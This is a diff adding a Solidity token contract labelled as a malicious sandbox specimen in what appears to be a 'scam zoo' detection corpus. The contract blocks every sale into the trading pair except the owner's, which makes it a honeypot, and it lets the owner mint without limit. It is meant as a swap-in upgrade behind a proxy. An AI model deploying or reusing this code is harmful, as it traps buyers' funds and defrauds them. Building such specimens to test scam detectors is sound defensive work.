@@ -1,0 +1,86 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface IZooRouter {
+    function factory() external view returns (address);
+    function WETH() external view returns (address);
+}
+
+interface IZooFactory {
+    function createPair(address tokenA, address tokenB) external returns (address);
+}
+
+/// @title Proxied token, malicious implementation (scam zoo)
+/// @notice MALICIOUS sandbox specimen: the same storage layout as ProxyImplBenign, but once the
+///         admin upgrades the proxy to it, selling into the pool reverts for everyone but the
+///         owner (a honeypot), and the owner can mint at will.
+contract ProxyImplRug {
+    string public name;
+    string public symbol;
+    uint256 public totalSupply;
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    address public owner;
+    address public pair;
+    bool private initialized;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    function initialize(string memory name_, string memory symbol_, uint256 supply, address router)
+        external
+    {
+        require(!initialized, "already initialized");
+        initialized = true;
+        name = name_;
+        symbol = symbol_;
+        owner = msg.sender;
+        totalSupply = supply;
+        balanceOf[msg.sender] = supply;
+        emit Transfer(address(0), msg.sender, supply);
+        pair = IZooFactory(IZooRouter(router).factory()).createPair(
+            address(this), IZooRouter(router).WETH());
+    }
+
+    function decimals() external pure returns (uint8) {
+        return 18;
+    }
+
+    function _transfer(address from, address to, uint256 amount) internal {
+        require(to != address(0), "transfer to zero address");
+        if (to == pair && from != owner) revert("transfer failed");
+        uint256 balance = balanceOf[from];
+        require(balance >= amount, "insufficient balance");
+        unchecked { balanceOf[from] = balance - amount; }
+        balanceOf[to] += amount;
+        emit Transfer(from, to, amount);
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        _transfer(msg.sender, to, amount);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        uint256 allowed = allowance[from][msg.sender];
+        if (allowed != type(uint256).max) {
+            require(allowed >= amount, "insufficient allowance");
+            unchecked { allowance[from][msg.sender] = allowed - amount; }
+        }
+        _transfer(from, to, amount);
+        return true;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        emit Approval(msg.sender, spender, amount);
+        return true;
+    }
+
+    function mint(address to, uint256 amount) external {
+        require(msg.sender == owner, "not the owner");
+        totalSupply += amount;
+        balanceOf[to] += amount;
+        emit Transfer(address(0), to, amount);
+    }
+}
